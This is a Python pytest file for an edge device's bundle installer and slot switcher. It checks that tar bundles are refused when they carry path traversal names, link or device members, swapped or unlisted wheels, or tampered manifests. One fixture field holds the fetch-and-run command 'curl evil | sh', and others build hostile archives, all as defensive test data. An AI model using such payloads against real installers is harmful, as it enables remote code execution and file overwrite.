"""The edge home's slots and files: safe offline installation of a bundle, atomic switching.

Hostile bundles are refused before anything lands outside the build directory, and a refused
or failed install leaves no slot (not even a half one) behind. The honest path uses a real
wheel, the real ``venv`` module and the real pip.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import tarfile
from collections.abc import Sequence
from pathlib import Path

import pytest

from fieldlink.edge import slots
from tests.edge.supervisor_support import add_file, build_bundle, build_wheel, manifest_for

VERSION = "2.0.0"


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_wheel(tmp_path_factory.mktemp("wheel"), VERSION, "healthy")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home"
    path.mkdir()
    return path


def _never(python: Path, wheels: Path, files: Sequence[Path]) -> None:
    raise AssertionError("a refused bundle must never reach the installer")


def _nothing_installed(home: Path, outside: Path | None = None) -> None:
    assert not (home / "slots" / VERSION).exists()
    assert [p.name for p in (home / "slots").iterdir()] == []  # no build directory left
    if outside is not None:
        assert not outside.exists()


# -- the honest path --------------------------------------------------------------------------


def test_install_bundle_with_a_real_wheel_makes_a_runnable_slot(
    tmp_path: Path, home: Path, wheel: Path
) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    slot = slots.install_bundle(bundle, home, VERSION)

    assert slot == home / "slots" / VERSION
    assert slots.is_installed(home, VERSION)
    assert slots.installed_versions(home) == {VERSION}
    assert not (slot / "wheels").exists()
    done = subprocess.run(
        [str(slots.slot_python(home, VERSION)), "-I", "-c", "import fieldlink, sys; "
         "print(fieldlink.__version__, sys.prefix)"],
        capture_output=True, text=True, timeout=30, check=True,
    )  # fmt: skip
    version, prefix = done.stdout.split()
    assert version == VERSION
    assert prefix == str(slot / "venv")  # its own venv, not the host's
    # Built under a temporary name: scripts must name the final one.
    script = (slot / "venv" / "bin" / "fieldlink").read_text()
    assert script.splitlines()[0] == f"#!{slot}/venv/bin/python"
    assert ".build-" not in (slot / "venv" / "bin" / "activate").read_text()


def test_install_bundle_again_reuses_the_complete_slot(
    tmp_path: Path, home: Path, wheel: Path
) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    calls: list[list[Path]] = []

    def installer(python: Path, wheels: Path, files: Sequence[Path]) -> None:
        calls.append(list(files))
        slots.pip_installer(python, wheels, files)

    first = slots.install_bundle(bundle, home, VERSION, installer=installer)
    marker = (first / "installed.json").stat().st_ino
    second = slots.install_bundle(bundle, home, VERSION, installer=installer)
    assert second == first
    assert len(calls) == 1
    assert (first / "installed.json").stat().st_ino == marker


def test_same_version_from_a_different_bundle_refused(
    tmp_path: Path, home: Path, wheel: Path
) -> None:
    slots.install_bundle(build_bundle(tmp_path / "a.tar", VERSION, [wheel]), home, VERSION)
    other = build_wheel(tmp_path / "other", VERSION, "crash")
    with pytest.raises(slots.SlotConflictError) as refused:
        slots.install_bundle(build_bundle(tmp_path / "b.tar", VERSION, [other]), home, VERSION)
    assert refused.value.code == "slot_conflict"


def test_failed_pip_install_leaves_no_slot(tmp_path: Path, home: Path) -> None:
    # A "wheel" whose bytes match the manifest but that pip cannot install.
    broken = tmp_path / "fieldlink-2.0.0-py3-none-any.whl"
    broken.write_bytes(b"not a zip file")
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [broken])
    with pytest.raises(slots.InstallFailedError) as failed:
        slots.install_bundle(bundle, home, VERSION)
    assert failed.value.code == "slot_install_failed"
    _nothing_installed(home)


def test_crash_during_install_leaves_no_half_slot(tmp_path: Path, home: Path, wheel: Path) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])

    def dies(python: Path, wheels: Path, files: Sequence[Path]) -> None:
        raise KeyboardInterrupt  # any interruption in the middle of pip

    with pytest.raises(KeyboardInterrupt):
        slots.install_bundle(bundle, home, VERSION, installer=dies)
    _nothing_installed(home)
    assert not slots.is_installed(home, VERSION)


def test_stale_build_directory_of_a_crashed_install_is_replaced(
    tmp_path: Path, home: Path, wheel: Path
) -> None:
    stale = home / "slots" / f".build-{VERSION}-dead"
    (stale / "venv").mkdir(parents=True)
    slots.install_bundle(build_bundle(tmp_path / "b.tar", VERSION, [wheel]), home, VERSION)
    assert not stale.exists()
    assert slots.installed_versions(home) == {VERSION}


# -- hostile bundles ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "member"),
    [
        ("dotdot", "../escaped"),
        ("nested_dotdot", "wheels/../../escaped"),
        ("absolute", "{tmp}/escaped"),
    ],
)
def test_tar_path_traversal_refused(
    tmp_path: Path, home: Path, wheel: Path, label: str, member: str
) -> None:
    name = member.format(tmp=tmp_path)
    bundle = build_bundle(
        tmp_path / "b.tar", VERSION, [wheel], extra=lambda tar: add_file(tar, name, b"pwned")
    )
    with pytest.raises(slots.UnsafeBundleMemberError) as refused:
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    assert refused.value.code == "bundle_unsafe_member"
    _nothing_installed(home)
    assert not (tmp_path / "escaped").exists()
    assert not (home / "escaped").exists()


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_tar_link_member_refused(tmp_path: Path, home: Path, wheel: Path, kind: bytes) -> None:
    # The classic: a link to somewhere outside, then a file written "into" the link.
    target = tmp_path / "outside"
    target.mkdir()

    def extra(tar: tarfile.TarFile) -> None:
        member = tarfile.TarInfo("wheels/evil.whl")
        member.type = kind
        member.linkname = str(target / "evil.whl")
        tar.addfile(member)

    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], extra=extra)
    with pytest.raises(slots.UnsafeBundleMemberError, match="link"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)
    assert list(target.iterdir()) == []


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_tar_device_member_refused(tmp_path: Path, home: Path, wheel: Path, kind: bytes) -> None:
    def extra(tar: tarfile.TarFile) -> None:
        member = tarfile.TarInfo("wheels/dev.whl")
        member.type = kind
        tar.addfile(member)

    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], extra=extra)
    with pytest.raises(slots.UnsafeBundleMemberError, match="device"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def test_unexpected_member_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    bundle = build_bundle(
        tmp_path / "b.tar",
        VERSION,
        [wheel],
        extra=lambda tar: add_file(tar, "setup.py", b"import os"),
    )
    with pytest.raises(slots.UnsafeBundleMemberError, match="unexpected"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def test_duplicate_member_swap_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    # A second copy of a checked wheel later in the archive would replace the first.
    bundle = build_bundle(
        tmp_path / "b.tar",
        VERSION,
        [wheel],
        extra=lambda tar: add_file(tar, f"wheels/{wheel.name}", b"other bytes"),
    )
    with pytest.raises(slots.UnsafeBundleMemberError, match="twice"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def test_wheel_hash_mismatch_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    manifest = manifest_for(VERSION, [wheel])
    manifest["wheels"][0]["sha256"] = hashlib.sha256(b"the reviewed wheel").hexdigest()
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], manifest=manifest)
    with pytest.raises(slots.BundleHashMismatchError) as refused:
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    assert refused.value.code == "bundle_hash_mismatch"
    _nothing_installed(home)


def test_wheel_size_mismatch_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    manifest = manifest_for(VERSION, [wheel])
    manifest["wheels"][0]["size"] += 1
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], manifest=manifest)
    with pytest.raises(slots.BundleHashMismatchError):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def test_unlisted_wheel_smuggled_in_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    extra_wheel = build_wheel(tmp_path / "extra", "9.9.9", "healthy")
    manifest = manifest_for(VERSION, [wheel])
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel, extra_wheel], manifest=manifest)
    with pytest.raises(slots.BundleManifestError, match="unlisted"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def test_oversize_member_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    limits = slots.BundleLimits(max_member_bytes=wheel.stat().st_size - 1)
    with pytest.raises(slots.BundleTooLargeError) as refused:
        slots.install_bundle(bundle, home, VERSION, installer=_never, limits=limits)
    assert refused.value.code == "bundle_too_large"
    assert refused.value.kind == "too_large"
    _nothing_installed(home)


def test_oversize_total_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    second = build_wheel(tmp_path / "second", "2.0.1", "healthy")
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel, second])
    limits = slots.BundleLimits(max_total_bytes=wheel.stat().st_size + second.stat().st_size - 1)
    with pytest.raises(slots.BundleTooLargeError):
        slots.install_bundle(bundle, home, VERSION, installer=_never, limits=limits)
    _nothing_installed(home)


def test_too_many_members_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    with pytest.raises(slots.BundleTooLargeError, match="members"):
        slots.install_bundle(
            bundle, home, VERSION, installer=_never, limits=slots.BundleLimits(max_members=1)
        )
    _nothing_installed(home)


def test_missing_manifest_refused(tmp_path: Path, home: Path, wheel: Path) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], with_manifest=False)
    with pytest.raises(slots.BundleManifestError, match="no manifest"):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


def _manifest_variants(wheel: Path) -> list[tuple[str, dict[str, object] | bytes]]:
    good = manifest_for(VERSION, [wheel])
    return [
        ("not_json", b"{not json"),
        ("format_2", {**good, "format": 2}),
        ("unknown_field", {**good, "post_install": "curl evil | sh"}),
        ("other_version", {**good, "version": "2.0.1"}),
        ("other_python", {**good, "python": "2.7"}),
        ("other_entry", {**good, "entry": "evil"}),
        ("no_wheels", {**good, "wheels": []}),
        ("path_in_wheel_name", {**good, "wheels": [{**good["wheels"][0], "name": "../x.whl"}]}),
        ("bad_sha", {**good, "wheels": [{**good["wheels"][0], "sha256": "XYZ"}]}),
    ]


@pytest.mark.parametrize(
    "variant",
    [v[0] for v in _manifest_variants(Path(__file__))],
)
def test_invalid_manifest_refused(tmp_path: Path, home: Path, wheel: Path, variant: str) -> None:
    manifest = dict(_manifest_variants(wheel))[variant]
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], manifest=manifest)
    with pytest.raises(slots.BundleManifestError) as refused:
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    assert refused.value.code == "bundle_manifest_invalid"
    _nothing_installed(home)


def test_not_a_tar_refused(tmp_path: Path, home: Path) -> None:
    bundle = tmp_path / "b.tar"
    bundle.write_bytes(b"\x1f\x8b compressed or garbage" * 40)
    with pytest.raises(slots.BundleRefusedError):
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    _nothing_installed(home)


# -- checking without installing ------------------------------------------------------------


def _files_under(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


def test_verify_bundle_returns_the_manifest_and_writes_nothing(tmp_path: Path, wheel: Path) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    before = _files_under(tmp_path)
    manifest = slots.verify_bundle(bundle, VERSION)
    assert _files_under(tmp_path) == before
    expected = manifest_for(VERSION, [wheel])
    assert (manifest.version, manifest.python, manifest.entry) == (
        VERSION,
        expected["python"],
        "fieldlink",
    )
    assert [(w.name, w.sha256, w.size) for w in manifest.wheels] == [
        (e["name"], e["sha256"], e["size"]) for e in expected["wheels"]
    ]
    assert slots.verify_bundle(bundle) == manifest  # no expected version: any valid one


def _hostile_bundles(tmp_path: Path, wheel: Path) -> dict[str, Path]:
    """One bundle per refusal class, each refused by the installer in the tests above."""
    tampered = manifest_for(VERSION, [wheel])
    tampered["wheels"][0]["sha256"] = hashlib.sha256(b"the reviewed wheel").hexdigest()
    extra = build_wheel(tmp_path / "extra", "9.9.9", "healthy")
    return {
        "traversal": build_bundle(
            tmp_path / "t.tar", VERSION, [wheel], extra=lambda t: add_file(t, "../x", b"x")
        ),
        "duplicate": build_bundle(
            tmp_path / "d.tar",
            VERSION,
            [wheel],
            extra=lambda t: add_file(t, f"wheels/{wheel.name}", b"other bytes"),
        ),
        "hash": build_bundle(tmp_path / "h.tar", VERSION, [wheel], manifest=tampered),
        "unlisted": build_bundle(
            tmp_path / "u.tar", VERSION, [wheel, extra], manifest=manifest_for(VERSION, [wheel])
        ),
        "no_manifest": build_bundle(tmp_path / "m.tar", VERSION, [wheel], with_manifest=False),
    }


@pytest.mark.parametrize("case", ["traversal", "duplicate", "hash", "unlisted", "no_manifest"])
def test_verify_bundle_refuses_what_the_installer_refuses(
    tmp_path: Path, home: Path, wheel: Path, case: str
) -> None:
    bundle = _hostile_bundles(tmp_path, wheel)[case]
    with pytest.raises(slots.BundleRefusedError) as checked:
        slots.verify_bundle(bundle, VERSION)
    with pytest.raises(slots.BundleRefusedError) as installed:
        slots.install_bundle(bundle, home, VERSION, installer=_never)
    assert (type(checked.value), checked.value.message) == (
        type(installed.value),
        installed.value.message,
    )
    _nothing_installed(home)


def test_verify_bundle_for_another_python_refused_unless_any_python_is_asked(
    tmp_path: Path, wheel: Path
) -> None:
    manifest = {**manifest_for(VERSION, [wheel]), "python": "3.99"}
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], manifest=manifest)
    with pytest.raises(slots.BundleManifestError, match=r"Python 3\.99"):
        slots.verify_bundle(bundle)
    assert slots.verify_bundle(bundle, python=None).python == "3.99"
    assert slots.verify_bundle(bundle, python="3.99").python == "3.99"


@pytest.mark.parametrize("version", ["../x", ".build-x", "a/b"])
def test_verify_bundle_with_a_malformed_manifest_version_refused(
    tmp_path: Path, wheel: Path, version: str
) -> None:
    manifest = {**manifest_for(VERSION, [wheel]), "version": version}
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel], manifest=manifest)
    with pytest.raises(slots.BundleManifestError, match="malformed"):
        slots.verify_bundle(bundle)


def test_verify_bundle_of_a_missing_file_refused(tmp_path: Path) -> None:
    with pytest.raises(slots.BundleRefusedError, match="cannot read"):
        slots.verify_bundle(tmp_path / "absent.tar")


@pytest.mark.parametrize("version", ["../x", "..", ".build-x", "a/b", "", "base"])
def test_slot_path_traversal_through_version_refused(
    tmp_path: Path, home: Path, wheel: Path, version: str
) -> None:
    bundle = build_bundle(tmp_path / "b.tar", VERSION, [wheel])
    with pytest.raises(slots.SlotError):
        slots.install_bundle(bundle, home, version, installer=_never)
    with pytest.raises(slots.SlotError):
        slots.write_staged(home, version)
    assert not (tmp_path / "x").exists()


# -- the link and the small files ------------------------------------------------------------


def _fake_slot(home: Path, version: str) -> None:
    bin_dir = home / "slots" / version / "venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "python").write_text("")
    (home / "slots" / version / "installed.json").write_text("{}")


def test_switch_current_is_an_atomic_rename(home: Path) -> None:
    _fake_slot(home, "1.0.0")
    _fake_slot(home, "2.0.0")
    assert slots.read_current(home) is None
    slots.switch_current(home, "1.0.0")
    assert slots.read_current(home) == "1.0.0"
    inode = (home / "current").lstat().st_ino
    slots.switch_current(home, "2.0.0")
    assert slots.read_current(home) == "2.0.0"
    assert (home / "current").lstat().st_ino != inode  # replaced, not rewritten in place
    assert str((home / "current").readlink()) == "slots/2.0.0"  # relative: the home may move
    assert sorted(p.name for p in home.iterdir()) == ["current", "slots"]  # no temporary left
    slots.switch_current(home, None)
    assert slots.read_current(home) is None


def test_switch_to_a_slot_that_is_not_installed_refused(home: Path) -> None:
    with pytest.raises(slots.SlotError):
        slots.switch_current(home, "1.0.0")
    assert not (home / "current").exists()


@pytest.mark.parametrize("target", ["slots/9.9.9", "/etc", "../slots/1.0.0", "slots"])
def test_foreign_or_dangling_current_link_reported(home: Path, target: str) -> None:
    _fake_slot(home, "1.0.0")
    (home / "current").symlink_to(target)
    with pytest.raises(slots.SlotError):
        slots.read_current(home)


def test_staged_healthy_and_last_update_round_trip(home: Path) -> None:
    _fake_slot(home, "2.0.0")
    assert slots.read_staged(home) is None
    slots.write_staged(home, "2.0.0")
    assert json.loads((home / "staged.json").read_text()) == {
        "version": "2.0.0",
        "slot": "slots/2.0.0",
    }
    assert slots.read_staged(home) == "2.0.0"
    slots.clear_staged(home)
    assert slots.read_staged(home) is None

    slots.mark_healthy(home, "2.0.0")
    assert slots.read_healthy(home) == slots.Healthy("2.0.0", os.getpid())
    assert slots.read_last_update(home) is None
    slots.write_last_update(home, "2.0.0", "rolled_back", "exited with code 1", at_ms=5)
    assert slots.read_last_update(home) == slots.LastUpdate(
        "2.0.0", "rolled_back", "exited with code 1", 5
    )


def test_staging_a_slot_that_is_not_installed_refused(home: Path) -> None:
    with pytest.raises(slots.SlotError):
        slots.write_staged(home, "2.0.0")
    assert not (home / "staged.json").exists()


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b'{"version": 1}', b'{"version": "../../x"}', b"x" * 70_000],
)
def test_garbage_small_files_read_as_absent(home: Path, content: bytes) -> None:
    for name in ("staged.json", "healthy.json", "last_update.json"):
        (home / name).write_bytes(content)
    assert slots.read_staged(home) is None
    assert slots.read_healthy(home) is None
    assert slots.read_last_update(home) is None


def test_remove_slots_except_keeps_the_named_ones_and_leftovers_go(home: Path) -> None:
    for version in ("1.0.0", "2.0.0", "3.0.0"):
        _fake_slot(home, version)
    (home / "slots" / ".build-4.0.0-abcd").mkdir()
    (home / "slots" / ".trash-0.9-abcd").mkdir()
    (home / ".current.dead.tmp").symlink_to("slots/3.0.0")
    assert slots.remove_slots_except(home, {"2.0.0", "3.0.0"}) == ["1.0.0"]
    slots.remove_leftovers(home)
    assert sorted(p.name for p in (home / "slots").iterdir()) == ["2.0.0", "3.0.0"]
    assert not (home / ".current.dead.tmp").is_symlink()


def test_default_home_is_the_config_directory_unless_update_home_says(tmp_path: Path) -> None:
    config = tmp_path / "edge.toml"
    config.write_text('[cloud]\nurl = "https://x"\n')
    assert slots.default_home(config) == tmp_path
    config.write_text('[update]\nhome = "state"\n')
    assert slots.default_home(config) == tmp_path / "state"
    config.write_text("not toml [")
    assert slots.default_home(config) == tmp_path
